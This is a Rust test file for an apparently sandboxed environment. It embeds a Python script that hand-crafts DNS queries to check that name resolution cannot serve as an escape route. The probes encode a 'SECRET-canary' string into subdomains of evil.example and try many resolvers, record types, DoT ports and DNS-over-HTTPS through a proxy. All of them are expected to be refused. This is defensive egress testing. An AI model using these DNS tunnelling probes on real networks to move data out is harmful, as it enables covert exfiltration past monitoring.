//! Names as a way out of a bottle.

use super::world::{FREE, World, part};
use crate::elsewhere::{has_own_kernel, only_transparent, recorded as past_the_proxy};

/// Asks resolvers by hand (RFC 1035 §4), so that no library stands in between.
const ASK: &str = r#"
import errno, secrets, socket, struct, sys
free, BOUND = sys.argv[1], int(sys.argv[2])
NOBODY = (errno.ECONNREFUSED, errno.ENETUNREACH, errno.EHOSTUNREACH)
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return secrets.token_bytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)
def ask(resolver, name, kind, tcp=False):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as asking:
        asking.settimeout(BOUND)
        asked = query(name, kind)
        try:
            asking.connect((resolver, 53))
            asking.send(struct.pack("!H", len(asked)) + asked if tcp else asked)
            answer = asking.recv(4096)[2 if tcp else 0:]
        except socket.timeout:
            return "nobody"
        except OSError as error:
            return "nobody" if error.errno in NOBODY else repr(error)
        return answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
RESOLVERS = ("127.0.0.1", "127.0.0.53", "8.8.8.8", "1.1.1.1", "10.0.0.2", "169.254.169.253")
print("== random")
print({ask("127.0.0.1", f"{number:x}.random.evil.example", 1) for number in range(100)})
print("== resolvers")
print({ask(resolver, f"{resolver.replace('.', '-')}.{how}.evil.example", 1, how == "tcp") for resolver in RESOLVERS for how in ("udp", "tcp")})
print("== kinds")
print([ask("8.8.8.8", f"kind{kind}.evil.example", kind) for kind in (16, 10, 255, 15, 33, 65, 28)])
print("== labels")
label = "5345435245542d63616e6172795345435245542d63616e617279534543524554"[:63]
print(ask("127.0.0.1", ".".join([label] * 3) + ".evil.example", 1))
print("== allowed")
print({ask(resolver, free, 1, tcp) for resolver in RESOLVERS for tcp in (False, True)}, ask("127.0.0.1", free, 16))
print("== other ways")
for address in (("8.8.8.8", 853), ("1.1.1.1", 5353), ("127.0.0.1", 5300)):
    try:
        socket.create_connection(address, 20)
        print("connected")
    except OSError as error:
        print("refused" if error.errno in NOBODY else repr(error))
print("== over HTTPS")
def through_the_proxy(place):
    with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
        proxy.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
        return proxy.recv(4096).split(b" ")[1].decode()
print([through_the_proxy(place) for place in ("dns.google:443", "1.1.1.1:443", "cloudflare-dns.com:853")])
"#;

#[test]
fn nothing_is_resolved_but_what_is_allowed() {
    let Some(world) = World::open() else { return };
    // gVisor says nothing of some addresses that lead nowhere.
    let bound = if has_own_kernel() { 5 } else { 60 };
    let shell = format!("cat > ask.py; /usr/bin/python3 -I ask.py {FREE} {bound}");
    let ran = world.scene.run_with(&["start", "a", "--headless", "--yes", "--", "sh", "-c", &shell], ASK.as_bytes());
    assert_eq!(ran.code, 0, "{ran:?}");
    let refusals = world.refusals();
    let recorded = |part: &str| refusals.iter().filter(|refusal| refusal.contains(part)).count();
    // NXDOMAIN and no answer in it, one record each; where there is no way but the proxy, nobody who could be asked.
    let all = |answers: &str, nobody: &str| if has_own_kernel() { nobody.to_owned() } else { answers.to_owned() };
    let (unknown, count) = (all("{(3, 0)}", "{'nobody'}"), past_the_proxy);
    assert_eq!((part(&ran.stdout, "random"), recorded(".random.evil.example 127.0.0.1:53")), (&*unknown, count(100)));
    assert_eq!((part(&ran.stdout, "resolvers"), recorded(".udp.evil"), recorded(".tcp.evil")), (&*unknown, count(6), count(6)));
    assert_eq!(recorded("A 8-8-8-8.udp.evil.example 8.8.8.8:53"), count(1));
    let kinds = all("[(3, 0), (5, 0), (5, 0), (3, 0), (3, 0), (3, 0), (3, 0)]", &format!("[{}]", ["'nobody'"; 7].join(", ")));
    assert_eq!((part(&ran.stdout, "kinds"), recorded(" kind")), (&*kinds, count(7)));
    let labels = all("(3, 0)", "nobody");
    assert_eq!((part(&ran.stdout, "labels"), recorded("5345435245542d63616e617279")), (&*labels, count(1)));
    assert_eq!(part(&ran.stdout, "allowed"), all("{(0, 1)} (0, 0)", "{'nobody'} nobody"));
    assert_eq!(part(&ran.stdout, "other ways"), "refused\nrefused\nrefused");
    assert_eq!((part(&ran.stdout, "over HTTPS"), recorded("egress.host CONNECT ")), ("['403', '403', '403']", 3));
    assert_eq!(refusals.len(), count(100 + 12 + 7 + 1) + 3, "{refusals:#?}");
    assert!(world.origin.connections().is_empty());
}

#[test]
fn a_program_that_asks_for_ipv4_alone_finds_a_name() {
    if !only_transparent("names mean nothing where programs reach the proxy alone") {
        return;
    }
    let Some(world) = World::open() else { return };
    let ask = "import socket, sys\n\
               print({flags: len(socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET, socket.SOCK_STREAM, 0, flags))\n\
               \x20      for flags in (0, socket.AI_ADDRCONFIG)})";
    let ran = world.scene.run(&["start", "a", "--headless", "--yes", "--", "/usr/bin/python3", "-I", "-c", ask, FREE]);
    assert_eq!((ran.code, ran.stdout.trim()), (0, "{0: 1, <AddressInfo.AI_ADDRCONFIG: 32>: 1}"), "{ran:?}");
}
